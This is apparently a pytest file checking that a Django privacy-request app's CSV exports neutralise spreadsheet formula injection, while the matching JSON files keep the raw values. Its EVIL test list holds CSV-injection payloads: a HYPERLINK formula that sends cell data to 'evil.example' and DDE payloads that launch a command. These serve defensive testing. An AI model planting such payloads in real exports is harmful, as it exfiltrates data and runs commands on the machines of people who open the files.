"""No CSV we write holds a cell a spreadsheet would run as a formula (OWASP, CSV
injection): a cell beginning with = + - @, a tab or a carriage return gets a single
quote before it, except a cell that is wholly a negative number. The JSON beside
each CSV keeps the values exactly. Each export is checked: the auditor's event log
(written by PostgreSQL, and by Python elsewhere), the request log, the opt-out
report, the metrics, the consumer's portability CSV and the mail-merge CSV (the
portability CSV that PostgreSQL writes for a large table: tests/test_sql_postgres.py)."""

import csv
import io
import json
import zipfile

import pytest
import sqlalchemy as sa
from django.core.management import call_command

from requests_app.audit import reports
from requests_app.csvcells import cell
from requests_app.models import Actor, Package, PrivacyRequest
from requests_app.services.audit.events import record_event
from tests.conftest import PAT, approved, committed, file_request, staff_login

pytestmark = pytest.mark.django_db

EVIL = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "-",
        "-x", "--1"]


@pytest.mark.parametrize("value", EVIL)
def test_a_cell_that_would_run_gets_a_quote(value):
    assert cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-12", "-0.5", "-.5", "-1e3", "-2.5E-4", "12", "Pat Doe",
                                   "a=b", "", "'=already quoted", "https://x.example"])
def test_plain_text_and_negative_numbers_stay_as_they_are(value):
    assert cell(value) == value


def test_other_values_are_written_as_the_csv_module_writes_them():
    assert cell(None) == "" and cell(-3) == "-3" and cell(2.5) == "2.5" and cell(True) == "True"


def rows_of(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def export(client, url: str) -> str:
    """The one data file of an auditor's zip export, as text."""
    response = client.get(url)
    assert response.status_code == 200, url
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    (name,) = [n for n in archive.namelist() if n != "manifest.json"]
    return archive.read(name).decode()


def test_the_event_log_neutralises_formulas_and_its_json_keeps_them(client, charlie):
    with committed():
        for value in EVIL + ["-42"]:
            record_event("test.injection", actor=Actor.system(), reason=value,
                         data={"source": value})
    staff_login(client, charlie)
    rows = [r for r in rows_of(export(client, "/audit/events/?format=csv"))
            if r["action"] == "test.injection"]
    assert [r["reason"] for r in rows] == ["'" + v for v in EVIL] + ["-42"]
    assert json.loads(rows[0]["data"]) == {"source": EVIL[0]}  # "{" starts no formula
    lines = [json.loads(line) for line in export(client, "/audit/events/?format=jsonl"
                                                 ).splitlines()]
    assert [e["reason"] for e in lines if e["action"] == "test.injection"] == EVIL + ["-42"]


def test_the_event_log_written_by_python_follows_the_same_rule():
    with committed():
        for value in EVIL + ["-42"]:
            record_event("test.injection", actor=Actor.system(), reason=value)
    text = "".join(reports.as_csv(reports.event_log(action="test.injection"),
                                  reports.EVENT_LOG_COLUMNS))
    assert [r["reason"] for r in rows_of(text)] == ["'" + v for v in EVIL] + ["-42"]


def test_the_request_log_neutralises_formulas(client, charlie):
    request = file_request()
    PrivacyRequest.objects.filter(pk=request.pk).update(reference="=1+1")
    staff_login(client, charlie)
    (row,) = rows_of(export(client, "/audit/requests/?format=csv"))
    assert row["reference"] == "'=1+1"


def test_the_opt_out_report_neutralises_a_purpose_named_as_a_formula(client, charlie,
                                                                     make_purpose):
    make_purpose("evil", "opt_out", "opt_out_marketing")
    from requests_app.models import Purpose

    Purpose.objects.filter(slug="evil").update(name=EVIL[0])
    request = file_request(request_type="opt_out_marketing", email="a@example.com")
    staff_login(client, charlie)
    response = client.get(f"/audit/opt-outs/{request.received_at.year}/?format=csv")
    (row,) = rows_of(response.content.decode())
    assert row["purpose"] == "'" + EVIL[0] and row["received"] == "1"


def test_the_metrics_csv_keeps_its_counts(client, charlie):
    request = file_request()
    staff_login(client, charlie)
    response = client.get(f"/audit/metrics/{request.received_at.year}/?format=csv")
    rows = rows_of(response.content.decode())
    assert rows and not any(v.startswith("'") for r in rows for v in r.values() if v)


def test_the_portability_csv_neutralises_formulas_and_the_json_keeps_them(sources, alice,
                                                                         unzip):
    sources["manual"].enabled = False
    sources["manual"].save()
    with sources["engine"].begin() as conn:
        conn.execute(sa.text("UPDATE customers SET name = :n WHERE email = :e"),
                     {"n": EVIL[0], "e": PAT})
        conn.execute(sa.text("UPDATE orders SET total = -25.5, ship_name = :n "
                             "WHERE customer_id = 1"), {"n": "@SUM(1+1)"})
    request = approved("portability", alice)
    archive = unzip(Package.objects.get(request=request))
    (pat,) = [r for r in rows_of(archive.read("Shop/customers.csv").decode())
              if r["email"] == PAT]
    assert pat["name"] == "'" + EVIL[0]
    (pat_json,) = [r for r in json.loads(archive.read("Shop/customers.json"))
                   if r["email"] == PAT]
    assert pat_json["name"] == EVIL[0]
    orders = rows_of(archive.read("Shop/orders.csv").decode())
    assert {o["total"] for o in orders} == {"-25.5"}  # a negative number stays a number
    assert {o["ship_name"] for o in orders} == {"'@SUM(1+1)"}
    assert {o["ship_name"] for o in json.loads(archive.read("Shop/orders.json"))} == {
        "@SUM(1+1)"}


def test_the_mail_merge_csv_neutralises_an_address_that_starts_a_formula(monkeypatch):
    monkeypatch.setattr("sys.stdin", io.StringIO("=1+1@example.com\npat@example.com\n"))
    out = io.StringIO()
    call_command("preference_link", csv=True, stdout=out)
    rows = rows_of(out.getvalue())
    assert [r["email"] for r in rows] == ["'=1+1@example.com", "pat@example.com"]
